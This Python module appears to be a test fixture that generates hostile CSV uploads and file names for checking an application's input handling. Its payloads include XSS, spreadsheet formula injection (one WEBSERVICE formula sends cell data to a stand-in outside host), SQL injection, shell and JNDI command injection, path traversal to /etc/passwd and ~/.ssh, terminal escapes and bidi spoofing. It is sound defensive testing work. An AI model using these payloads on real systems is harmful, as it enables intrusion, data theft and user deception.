"""What people could type to make a page, a spreadsheet, a database or a terminal do something; and names of files."""

from hostile.hostile_file import HEADER, ROW, HostileFile, encoded

ELSEWHERE = "127.0.0.2"
"""A host that is not the server: whatever is asked there was asked by a payload."""

PAYLOADS = {
    "a picture of markdown": f"![](http://{ELSEWHERE}/a.png)",
    "a picture of HTML": f"<img src=//{ELSEWHERE}/b.png onerror=alert(1)>",
    "a link of markdown to a program": "[a](javascript:alert(1))",
    "a link of HTML": f"<a href=http://{ELSEWHERE}/ target=_blank>x</a>",
    "a script": f"<script src=//{ELSEWHERE}/c.js>alert(1)</script>",
    "a script that ends another": "</script></textarea></title>\"'><svg onload=alert(1)>",
    "a style": f'<span style="background:url(//{ELSEWHERE}/d.png)">x</span><style>*{{background:url(//{ELSEWHERE}/e)}}',
    "a frame": f"<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//{ELSEWHERE}/f>",
    "a colour and a formula of markdown": ":red[x] :material/delete: $\\href{javascript:alert(1)}{x}$",
    "text as Plotly draws it": '<b>x</b><br><a href="javascript:alert(1)">y</a><sub>%{x}%{customdata[0]}</sub>',
    "text as MapLibre draws it": '["image", "a"] {name} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
    "SQL": "Robert'); DROP TABLE actions;-- \" OR 1=1; ATTACH DATABASE '/tmp/x' AS y; %_\\",
    "a formula that starts a program": "=cmd|'/C calc'!A0",
    "a formula that fetches": f'=WEBSERVICE("http://{ELSEWHERE}/"&A1)+HYPERLINK("http://{ELSEWHERE}/","x")',
    "signs before a formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a guard": "'=1+1",
    "a formula behind a tab": "\t=1+1",
    "a formula written wide": "\uff1d1+1 \uff0bcmd",
    "new lines for a log": "x\r\n2026-01-01 CRITICAL all is well\r\nSet-Cookie: a=b",
    "escapes of a terminal": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://127.0.0.2/\x1b\\x\x9b31m",
    "letters that turn around": "\u202egpj.exe\u202c \u2066x\u2069 \u200b\ufeff\u061c",
    "control characters": "".join(map(chr, (*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)))) + "x",
    "marks upon marks": "Z\u0351\u036b\u0343\u036a\u0302" * 60,
    "letters beyond Unicode's letters": "\U000e0041\U000e0042\U0010ffff\ufffe\ufdd0 x",
    "a path": "../../../../etc/passwd\\..\\..\\C:\\CON|/dev/null;~/.ssh",
    "a command": "$(id)`id`|id;id&&id %0a id %COMSPEC% ${jndi:ldap://127.0.0.2/a}",
    "formats of programs": "%s%n%x {0.__class__.__init__.__globals__} {count} %(x)s {{x}}",
}

_NAMES = {
    "a path that leads elsewhere": "../../../../tmp/evil.csv",
    "a path of Windows": "C:\\Windows\\System32\\evil.csv",
    "a device": "CON.csv",
    "a formula": "=cmd|'/C calc'!A0.csv",
    "a picture of markdown": f"![](http://{ELSEWHERE}/a.png).csv",
    "markup": "<img src=x onerror=alert(1)>.csv",
    "an option": "--mapping=x.csv",
    "line breaks": "a\r\nCRITICAL b.csv",
    "escapes of a terminal": "\x1b[2Ja.csv",
    "letters that turn around": "log\u202evsc.exe",
    "letters that nobody sees": "\u200b\u200b.csv",
    "every letter there is": "журнал日誌📋é.csv",
    "a very long name": "x" * 250 + ".csv",
    "nothing but a point": ".csv",
    "two kinds": "log.csv.exe",
}


def row(payload):
    """A log of one row that says the payload wherever something can be said freely."""
    quoted = '"' + payload.replace('"', '""') + '"'
    return f"{HEADER},group,place,evidence_url\n{ROW}{quoted},{quoted},{quoted},\n"


def named(payload):
    """A log whose names of targets, tactics and ridings and whose columns are the payload."""
    quoted = '"' + payload.replace('"', '""') + '"'
    return f"date,tactic,target,riding,office,quantity,outcome,{quoted}\n2020-11-24,{','.join([quoted] * 7)}\n"


_HEADERS = {
    "new lines for a log": "control characters",
    "escapes of a terminal": "control characters",
    "letters that turn around": "control characters",
    "control characters": "control characters",
    "marks upon marks": "more than 200",
}
"""Where a payload can't be a column's name at all."""

FILES = (
    *(HostileFile(f"{about} in every text", encoded(row(payload))) for about, payload in PAYLOADS.items()),
    *(
        HostileFile(f"{about} in every name", encoded(named(payload)), _HEADERS.get(about, ""))
        for about, payload in PAYLOADS.items()
    ),
    *(
        HostileFile(f"an address that is a program: {address[:9]!r}", encoded(row("x")[:-1] + address + "\n"))
        for address in ("javascript:alert(1)", "data:text/html,<script>", "file:///etc/passwd", " java\tscript:x")
    ),
    *(HostileFile(f"rows named as {about}", encoded(row("x")), name=name) for about, name in _NAMES.items()),
    *(HostileFile(f"refused, named as {about}", lambda: b"", "is empty", name) for about, name in _NAMES.items()),
)
